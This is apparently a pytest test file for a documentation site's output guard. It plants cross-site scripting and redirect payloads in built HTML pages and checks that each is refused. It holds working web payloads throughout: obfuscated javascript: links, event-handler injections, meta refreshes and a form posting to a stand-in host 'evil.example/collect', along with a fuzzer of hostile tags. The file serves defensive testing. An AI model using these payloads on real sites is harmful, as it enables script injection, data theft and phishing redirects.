"""The output check reads a page as a browser does and refuses anything that could run script,
fetch from another host, send the reader elsewhere on its own, or break an anchor; `mkdocs build`
fails naming the page and where it comes from. Each payload is planted directly in a built page, one
at a time; a property test shows the quick look never clears a page the full parse would refuse."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from mkdocs.exceptions import Abort

from plansite.publish.guard import check_html, check_site, normalise_script
from plansite.publish.site_build import OutputRefused, check_output

from conftest import FIXTURES, PROJECT, build_site, make_project

THEME = {normalise_script('__md_scope=new URL(".",location)')}


@pytest.mark.parametrize("html, finding", [
    ('<img src="x" onerror="alert(1)">', "an event attribute onerror"),
    ('<a href="#" OnClick="go()">x</a>', "an event attribute onclick"),
    ('<a href="javascript:alert(1)">x</a>', "a script address in href"),
    ('<a href=" JaVa\tScRiPt:alert(1)">x</a>', "a script address in href"),
    ('<iframe src="vbscript:x"></iframe>', "a script address in src"),
    ('<script>alert(1)</script>', "an inline script that is not the theme's own"),
    ('<script src="https://cdn.example.com/x.js"></script>', "a script that is not the theme's own"),
    ('<script src="../evil.js"></script>', "a script that is not the theme's own"),
    ('<img src="https://other.host/p.gif" alt="">', "a resource from another host"),
    ('<img srcset="a.png 1x, //other.host/b.png 2x" alt="">', "a resource from another host"),
    ('<link rel="stylesheet" href="https://fonts.googleapis.com/css">', "a resource from another host"),
    ('<div style="background: url(https://other.host/p.gif)"></div>', "a resource from another host"),
    ('<style>@import "https://other.host/x.css";</style>', "CSS that could fetch or hide an address"),
    ('<meta http-equiv="refresh" content="0; url=https://other.host/">', "a redirect to another address"),
])
@pytest.mark.parametrize("quick", [True, False], ids=["quick look first", "full parse"])
def test_a_page_that_could_run_script_or_fetch_elsewhere_is_refused(html: str, finding: str, quick: bool) -> None:
    found, _ = check_html("page.html", html, THEME, quick)
    assert [f.what for f in found if f.what.startswith(finding)], found


@pytest.mark.parametrize("html", [
    '<a href="https://www.gov.uk/">a link to another site is fine</a>',
    '<a href="mailto:plans@example.org">email</a> <a href="tel:+441234">phone</a>',
    '<link rel="canonical" href="https://plans.example.org/x/">',
    '<script src="../assets/javascripts/bundle.min.js"></script>',
    '<script>__md_scope=new URL("../..",location)</script>',
    '<img src="../assets/chart.png" alt="A chart"> <p>javascript: is only a word here</p>',
])
def test_the_theme_and_ordinary_pages_pass(html: str) -> None:
    assert check_html("page.html", html, THEME)[0] == []


def test_build_site_fails_naming_the_page_and_its_source(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", FIXTURES / "small" / "content")
    (project / "docs" / "about.md").write_text('# About\n\n<a href="javascript:alert(1)" onclick="x()">hi</a>\n',
                                              encoding="utf-8")
    result = build_site(project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    output = result.stdout + result.stderr
    assert ("site/about/index.html: an event attribute onclick=\"x()\" on <a>; the page is not made from content:"
            " check its hand-written source in docs/ or the theme") in output
    assert "site/about/index.html: a script address in href=\"javascript:alert(1)\" on <a>" in output


def test_a_template_mistake_fails_the_build_naming_the_content_file(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", FIXTURES / "small" / "content")
    plansite = project / "plansite"
    plansite.unlink()
    shutil.copytree(PROJECT / "plansite", plansite, ignore=shutil.ignore_patterns("__pycache__"))
    template = plansite / "render" / "templates" / "measure.md.j2"
    template.write_text(template.read_text(encoding="utf-8") + '\n<b onmouseover="steal()">oops</b>\n',
                        encoding="utf-8")
    result = build_site(project)
    assert result.returncode == 1
    assert ('site/plans/first-plan-2019-2022/measures/obesity-rate/index.html: an event attribute'
            ' onmouseover="steal()" on <b>; the page is made from'
            ' content/plans/first-plan-2019-2022/priorities/healthy-start.yml: check the text there (if it looks'
            ' right, the fault is in a template)'
            ) in result.stdout + result.stderr


PAYLOADS = {
    # The site's address, once printed raw into every page's canonical link.
    "canonical then refresh": '<link rel="canonical" href="https://example.org">'
                              '<meta http-equiv="refresh" content="0;URL=https://evil.example/">',
    "canonical then srcdoc": '<link rel="canonical" href="https://example.org">'
                             '<iframe srcdoc="<script>alert(document.domain)</script>"></iframe>',
    # Redirects in any case, spacing and quoting.
    "refresh in capitals": '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://evil.example/">',
    "refresh with quotes": "<meta http-equiv=refresh content=\"0; url='https://evil.example/'\">",
    "refresh without url=": '<meta http-equiv="refresh" content="0;https://evil.example/">',
    "refresh with a comma": '<meta http-equiv="refresh" content="0 , URL = //evil.example/">',
    "refresh to script": '<meta http-equiv="refresh" content="0;url=&#x6A;avascript:alert(1)">',
    "refresh in entities": '<meta http-equiv="&#x72;efresh" content="0;url=https://evil.example/">',
    # Addresses behind character references and control characters.
    "numeric reference": '<a href="&#106;avascript:alert(1)">x</a>',
    "named reference": '<a href="javascript&colon;alert(1)">x</a>',
    "space then reference": '<a href=" &#x20;javascript:alert(1)">x</a>',
    "slashes as references": '<img src="&#x2F;&#x2F;evil.example/p.png" alt="">',
    "backslashes": '<img src="\\\\evil.example\\p.png" alt="">',
    "scheme with backslashes": '<img src="https:\\\\evil.example\\p.png" alt="">',
    # Documents, frames and objects.
    "iframe": '<iframe src="page.html"></iframe>',
    "object": '<object data="movie.swf"></object>',
    "embed": '<embed src="x.svg">',
    "portal": '<portal src="https://evil.example/"></portal>',
    "srcdoc": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    # Where links and forms lead.
    "base": '<base href="https://evil.example/">',
    "relative base": '<base href="../../">',
    "form to another host": '<form action="https://evil.example/collect"><input name="q"></form>',
    "formaction": '<form action=""><button formaction="//evil.example/">Go</button></form>',
    "ping": '<a href="#x" ping="https://evil.example/track">x</a>',
    # SVG and MathML.
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate": '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg image": '<svg><image href="https://evil.example/p.png"/></svg>',
    "svg script": '<svg><script href="//evil.example/x.js"></script></svg>',
    "svg paint": '<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
    "svg style": '<svg><style>rect { fill: url(//evil.example/p.svg#g) }</style></svg>',
    "mathml href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    # CSS.
    "css escape": '<div style="background: \\75 rl(//evil.example/p.png)"></div>',
    "css import": '<style>@import url(//evil.example/x.css);</style>',
    # Attributes as a browser reads them.
    "no space before": '<a href="#"onclick="alert(1)">x</a>',
    "slash before": "<img/src='x'/onerror=alert(1) alt=''>",
    "capitals": "<IMG SRC=x ONERROR=alert(1) ALT=''>",
    "script with data-src": '<script data-src="assets/javascripts/x.js">alert(1)</script>',
    "script in a comment's shadow": '<script title=">__md_scope=new URL(".",location)</script>alert(1)</script>',
    # Anchors.
    "duplicate id": '<h2 id="early-help">A</h2><h2 id="early-help">B</h2>',
    "empty id": '<h2 id="">A</h2>',
    "duplicate id by reference": '<p id="a&amp;b">x</p><p id="a&b">y</p>',
}
"""Payloads planted in a built page, each of which the output check must refuse."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, set[str]]:
    """The small site built, and the theme's inline scripts."""
    project = make_project(tmp_path_factory.mktemp("guard") / "project", FIXTURES / "small" / "content")
    assert build_site(project).returncode == 0
    site = project / "site"
    return site, check_html("404.html", (site / "404.html").read_text(encoding="utf-8"), None)[1]


def _planted(page: str, payload: str) -> str:
    return page.replace("<article", payload + "<article", 1)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_each_payload_planted_in_a_built_page_is_refused(built: tuple[Path, set[str]], payload: str) -> None:
    site, theme = built
    page = (site / "plans/next-plan-2022-2025/index.html").read_text(encoding="utf-8")
    assert check_html("page.html", page, theme, True)[0] == []  # the page as built passes
    planted = _planted(page, payload)
    assert check_html("page.html", planted, theme, False)[0], "the full parse let it through"
    assert check_html("page.html", planted, theme, True)[0], "the quick look let it through"


def test_the_build_fails_on_each_payload(built: tuple[Path, set[str]], tmp_path: Path) -> None:
    from plansite.preview import mkdocs_hook

    site = tmp_path / "site"
    shutil.copytree(built[0], site)
    pages = sorted(p for p in site.rglob("index.html") if "<article" in p.read_text(encoding="utf-8"))
    for payload, page in zip(PAYLOADS.values(), pages, strict=False):
        page.write_text(_planted(page.read_text(encoding="utf-8"), payload), encoding="utf-8")
    assert len(pages) >= len(PAYLOADS)
    refused = {f.page for f in check_site(site)}
    assert refused == {p.relative_to(site).as_posix() for p in pages[:len(PAYLOADS)]}
    with pytest.raises(OutputRefused, match="The output check refused .* thing\\(s\\) in the built pages"):
        check_output({}, site, "site")  # as the build does after the engine
    mkdocs_hook.on_startup("build", dirty=False)
    with pytest.raises(Abort, match="The output check refused .* thing\\(s\\) in the built pages"):
        mkdocs_hook.on_post_build(SimpleNamespace(site_dir=str(site)))  # and `mkdocs build` run by hand


TAGS = ["a", "img", "script", "style", "link", "meta", "base", "iframe", "svg", "animate", "image", "form", "div",
        "h2", "textarea", "title", "noscript", "template", "math", "object", "SCRIPT", "p"]
NAMES = ["href", "src", "srcset", "onclick", "ONLOAD", "style", "id", "ID", "rel", "http-equiv", "content", "action",
         "xlink:href", "fill", "data-src", "title", "srcdoc", "ping", "to", "type", "on\"x", "formaction"]
VALUES = ["//evil", "\\\\evil", "https:evil", "java\tscript:x", "&#106;avascript:x", "javascript&colon;x", "x", "",
          "url(//e)", "0;url=//e", "0;URL='//e'", "refresh", "stylesheet", 'a"b', "'", ">", "<script>", "&amp;",
          "assets/javascripts/x.js", "../x/", "#top", "a", "a&#98;", "mailto:x@y.z", "\x00"]
TEXTS = ["<", "&", "<!--", "-->", "</script>", "<script>", " ", "\n", "on", "id=a", " id=a", '"', "'",
         '__md_scope=new URL(".",location)', "x", "/", "=", "&#58;", "</svg>", "</a>", ">"]


@st.composite
def _tag(draw) -> str:
    attributes = ""
    for _ in range(draw(st.integers(0, 3))):
        attributes += draw(st.sampled_from([" ", "/", "\n", ""])) + draw(st.sampled_from(NAMES)) + _value(draw)
    tag = draw(st.sampled_from(TAGS))
    body = "".join(draw(st.lists(st.sampled_from(TEXTS), max_size=4)))
    return f"<{tag}{attributes}>{body}" + (f"</{tag}>" if draw(st.booleans()) else "")


def _value(draw) -> str:
    quote = draw(st.sampled_from(['"', "'", ""]))
    return f"={quote}{draw(st.sampled_from(VALUES))}{quote}" if draw(st.booleans()) else ""


@settings(max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "400")), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(st.one_of(_tag(), st.sampled_from(TEXTS)), max_size=8))
@example(parts=['<a title="xon"onclick=alert(1)>', "x"])
@example(parts=['<script title=">__md_scope=new URL(".",location)</script>alert(1)</script>'])
def test_the_quick_look_never_clears_what_the_full_parse_refuses(parts: list[str]) -> None:
    page = "<!doctype html><html><head><title>t</title></head><body>" + "".join(parts) + "</body></html>"
    full = check_html("page.html", page, THEME, quick=False)[0]
    quick = check_html("page.html", page, THEME, quick=True)[0]
    assert quick == full


def test_the_quick_look_never_misses_what_the_full_parse_finds(hostile_site: Path, real_site: Path) -> None:
    for site in (hostile_site, real_site):
        _, theme = check_html("404.html", (site / "404.html").read_text(encoding="utf-8"), None)
        for page in sorted(site.rglob("*.html")):
            html = page.read_text(encoding="utf-8")
            assert check_html(page.name, html, theme, True)[0] == check_html(page.name, html, theme, False)[0]
        # and a page with a planted fault is found by both
        planted = (site / "index.html").read_text(encoding="utf-8").replace("<h1", '<h1 onclick="x()"', 1)
        assert check_html("index.html", planted, theme, True)[0]
